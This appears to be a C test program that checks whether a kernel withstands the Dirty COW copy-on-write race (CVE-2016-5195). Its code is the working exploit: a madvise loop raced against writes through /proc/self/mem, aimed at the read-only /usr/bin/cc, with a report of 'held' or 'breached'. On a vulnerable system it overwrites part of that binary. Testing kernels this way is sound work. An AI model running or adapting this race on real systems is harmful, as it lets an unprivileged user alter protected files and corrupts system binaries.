// tries: to write to a file that it may only read, by a race of copy-on-write (CVE-2016-5195)
// right: held
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

static char *map;
static volatile int over;

static void *forget(void *unused) {
    while (!over) madvise(map, 4096, MADV_DONTNEED);
    return 0;
}

int main(void) {
    int fd = open("/usr/bin/cc", O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
    char before[64], after[64];
    if (fd == -1 || pread(fd, before, 64, 0) != 64) return 1;
    map = mmap(0, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    pthread_t thread;
    pthread_create(&thread, 0, forget, 0);
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    do {
        for (int i = 0; i < 1000; i++) (void)!pwrite(memory, "breached", 8, (intptr_t)map);
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while ((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000 < 300);
    over = 1;
    pthread_join(thread, 0);
    if (pread(fd, after, 64, 0) != 64 || memcmp(before, after, 64)) return puts("breached: the file has changed"), 1;
    puts("held");
}
